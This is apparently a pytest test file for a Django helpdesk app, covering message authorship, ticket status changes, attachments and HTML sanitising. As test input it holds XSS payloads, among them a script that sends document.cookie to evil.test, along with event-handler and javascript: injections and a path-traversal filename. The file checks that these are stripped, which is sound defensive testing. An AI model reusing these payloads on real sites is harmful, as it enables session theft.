"""add_message: authorship, status effects (reopen by customer reply, first staff reply),
internal notes, attachments through Django storage with the size limit, sanitising of
hostile HTML."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from django.core.files.storage import default_storage

from caseline.accounts.models import Contact, Organization, User
from caseline.audit.models import AuditEvent
from caseline.errors import Conflict, PermissionDenied, ValidationFailed
from caseline.text.html import clean_html, html_to_text
from caseline.tickets.models import Attachment, Message, Ticket
from caseline.tickets.services import add_message, create_ticket, update_ticket

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return Path(settings.MEDIA_ROOT)


@pytest.fixture
def se(make_staff):
    return make_staff("support_engineer")


@pytest.fixture
def contact():
    org = Organization.objects.create(name="Acme")
    return Contact.objects.create(name="Ada", organization=org)


@pytest.fixture
def customer(contact):
    return User.objects.create_user(
        username="ada@acme.test", email="ada@acme.test", kind="customer", contact=contact
    )


@pytest.fixture
def ticket(se, contact):
    return create_ticket(
        actor=se, requester=contact, subject="Login fails", body_text="Help", channel="web"
    )


def status_events(ticket):
    return list(
        AuditEvent.objects.filter(ticket_id=ticket.pk, type="ticket.status_changed").order_by("id")
    )


def files_in(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


# --- authorship and events --------------------------------------------------------------


def test_staff_public_reply_opens_a_new_ticket(ticket, se):
    msg = add_message(ticket, actor=se, body_text="Looking into it", channel="web")
    ticket.refresh_from_db()
    assert ticket.status == "open"
    assert msg.author_user == se and msg.author_contact is None
    ev = AuditEvent.objects.get(ticket_id=ticket.pk, type="ticket.message_added")
    assert ev.data["message_id"] == msg.pk
    assert ev.data["kind"] == "public" and ev.data["author_role"] == "staff"
    assert ev.actor_id == se.pk
    assert status_events(ticket)[0].data["reason"] == "staff_reply"
    # a second reply does not change status again
    add_message(ticket, actor=se, body_text="More", channel="web")
    assert len(status_events(ticket)) == 1


def test_internal_note_changes_no_status(ticket, se):
    msg = add_message(ticket, actor=se, kind="internal", body_text="Check logs", channel="web")
    ticket.refresh_from_db()
    assert ticket.status == "new" and msg.kind == "internal"
    assert status_events(ticket) == []


def test_customer_reply_reopens_solved_ticket(ticket, se, customer, contact):
    update_ticket(ticket, actor=se, assignee=se, status="solved")
    msg = add_message(ticket, actor=customer, body_text="Still broken", channel="web")
    ticket.refresh_from_db()
    assert ticket.status == "open" and ticket.solved_at is None
    assert msg.author_contact == contact and msg.author_user == customer
    ev = status_events(ticket)[-1]
    assert (ev.old, ev.new) == ("solved", "open")
    assert ev.data == {"reason": "customer_reply", "reopened": True}
    added = AuditEvent.objects.filter(type="ticket.message_added").last()
    assert added.data["author_role"] == "customer"


def test_customer_reply_moves_pending_to_open_but_not_on_hold(ticket, se, customer):
    update_ticket(ticket, actor=se, status="pending")
    add_message(ticket, actor=customer, body_text="here are the logs", channel="web")
    ticket.refresh_from_db()
    assert ticket.status == "open"
    update_ticket(ticket, actor=se, status="on_hold")
    add_message(ticket, actor=customer, body_text="any news?", channel="web")
    ticket.refresh_from_db()
    assert ticket.status == "on_hold"


def test_inbound_mail_author_contact_counts_as_customer(ticket, se, contact):
    update_ticket(ticket, actor=se, status="pending")
    msg = add_message(
        ticket,
        author_contact=contact,
        body_text="reply by mail",
        channel="email",
        email_message_id="<abc@mail>",
    )
    ticket.refresh_from_db()
    assert ticket.status == "open"
    assert msg.author_user is None and msg.email_message_id == "<abc@mail>"


def test_customers_cannot_write_internal_notes(ticket, customer, contact):
    with pytest.raises(PermissionDenied):
        add_message(ticket, actor=customer, kind="internal", body_text="x", channel="web")
    with pytest.raises(PermissionDenied):
        add_message(ticket, author_contact=contact, kind="internal", body_text="x")
    assert ticket.messages.count() == 1


def test_closed_ticket_takes_no_messages(ticket, se):
    update_ticket(ticket, actor=se, assignee=se, status="solved")
    update_ticket(ticket, actor=se, status="closed")
    with pytest.raises(Conflict):
        add_message(ticket, actor=se, body_text="late", channel="web")


@pytest.mark.parametrize(
    ("fields", "key"),
    [
        ({"kind": "secret", "body_text": "x"}, "kind"),
        ({"body_text": "   "}, "body_text"),
        ({"body_html": "<script>only()</script>"}, "body_text"),
        ({"body_text": "x", "channel": "pigeon"}, "channel"),
    ],
)
def test_message_validation(ticket, se, fields, key):
    with pytest.raises(ValidationFailed) as info:
        add_message(ticket, actor=se, **fields)
    assert key in info.value.fields
    assert ticket.messages.count() == 1


# --- attachments ------------------------------------------------------------------------


def test_attachments_are_stored_with_sha256(ticket, se, media):
    data = b"%PDF-1.4 fake pdf bytes"
    msg = add_message(
        ticket,
        actor=se,
        body_text="see attached",
        attachments=[("../../etc/report.pdf", "application/pdf", data), ("a.txt", "", b"hi")],
        channel="web",
    )
    atts = list(msg.attachments.order_by("id"))
    assert [a.filename for a in atts] == ["report.pdf", "a.txt"]
    a = atts[0]
    assert a.size == len(data) and a.sha256 == hashlib.sha256(data).hexdigest()
    assert a.content_type == "application/pdf"
    assert atts[1].content_type == "application/octet-stream"
    with default_storage.open(a.file.name, "rb") as fh:
        assert fh.read() == data
    assert (media / a.file.name).is_file()
    assert a.file.name.startswith(f"attachments/{a.sha256[:2]}/{a.sha256}/")
    ev = AuditEvent.objects.filter(type="ticket.message_added").last()
    assert ev.data["attachments"] == [x.pk for x in atts]


def test_same_content_is_stored_once(ticket, se, media):
    for _ in range(2):
        add_message(
            ticket, actor=se, body_text="x", attachments=[("a.bin", "", b"same")], channel="web"
        )
    assert Attachment.objects.count() == 2
    assert len(files_in(media)) == 1


def test_attachment_only_message_is_fine(ticket, se):
    msg = add_message(ticket, actor=se, attachments=[("shot.png", "image/png", b"\x89PNG")])
    assert msg.body_text == "" and msg.attachments.count() == 1


def test_attachment_size_limit_is_422_and_nothing_stored(ticket, se, settings, media):
    settings.ATTACHMENT_MAX_BYTES = 10
    messages = Message.objects.count()
    with pytest.raises(ValidationFailed) as info:
        add_message(
            ticket,
            actor=se,
            body_text="two files",
            attachments=[("ok.txt", "text/plain", b"small"), ("big.bin", "", b"x" * 11)],
            channel="web",
        )
    assert info.value.status == 422
    assert "attachments.1" in info.value.fields and "limit" in info.value.fields["attachments.1"]
    assert Message.objects.count() == messages
    assert Attachment.objects.count() == 0
    assert files_in(media) == []
    # exactly at the limit is allowed
    add_message(ticket, actor=se, attachments=[("edge.bin", "", b"y" * 10)], channel="web")
    assert Attachment.objects.count() == 1


def test_attachments_on_ticket_creation(se, contact, settings, media):
    t = create_ticket(
        actor=se,
        requester=contact,
        subject="with file",
        body_text="log attached",
        channel="email",
        attachments=[("log.txt", "text/plain", b"error 500")],
    )
    att = t.messages.get().attachments.get()
    assert att.size == 9
    settings.ATTACHMENT_MAX_BYTES = 3
    with pytest.raises(ValidationFailed):
        create_ticket(
            actor=se,
            requester=contact,
            subject="too big",
            channel="email",
            attachments=[("log.txt", "text/plain", b"error 500")],
        )
    assert Ticket.objects.count() == 1


# --- sanitising -------------------------------------------------------------------------

HOSTILE = """
<div style="position:fixed" onmouseover="steal()">
  <p>Hello <strong>support</strong>,</p>
  <script>document.location='https://evil.test/?c='+document.cookie</script>
  <style>body{display:none}</style>
  <img src="x" onerror="alert(1)"><img src="cid:part1@mail">
  <a href="javascript:alert(1)">click</a>
  <a href="https://docs.example.com/kb/1" target="_blank" onclick="x()">docs</a>
  <iframe src="https://evil.test"></iframe>
  <form action="https://evil.test"><input name="pw"></form>
  <svg onload="alert(1)"><circle/></svg>
  <a href="data:text/html;base64,PHNjcmlwdD4=">data</a>
  <!-- <script>hidden()</script> -->
  <ul><li>one</li><li>two &amp; three</li></ul>
</div>
"""


def test_hostile_html_is_sanitised(ticket, se):
    msg = add_message(ticket, actor=se, body_html=HOSTILE, channel="email")
    html = msg.body_html.lower()
    for bad in (
        "<script",
        "<style",
        "onerror",
        "onclick",
        "onmouseover",
        "onload",
        "javascript:",
        "data:",
        "<iframe",
        "<form",
        "<input",
        "<svg",
        "style=",
        "<!--",
        "document.cookie",
        "display:none",
    ):
        assert bad not in html, bad
    assert '<a href="https://docs.example.com/kb/1" rel="noopener noreferrer">docs</a>' in (
        msg.body_html
    )
    assert "<strong>support</strong>" in msg.body_html
    assert 'src="cid:part1@mail"' in msg.body_html
    assert "<li>two &amp; three</li>" in msg.body_html
    # text derived from the sanitised HTML
    assert "Hello support," in msg.body_text
    assert "two & three" in msg.body_text
    assert "document" not in msg.body_text and "display" not in msg.body_text


@pytest.mark.pure
def test_sanitize_helpers():
    assert clean_html("") == "" and html_to_text("") == ""
    assert clean_html('<p>a<b onclick="x">b</b></p>') == "<p>a<b>b</b></p>"
    assert clean_html("<table><tr><td colspan=2>x</td></tr></table>") == (
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
    )
    assert html_to_text("<p>one</p><p>two<br>three</p>") == "one\n\ntwo\nthree"
    assert html_to_text("a&nbsp;&lt;b&gt;") == "a <b>"
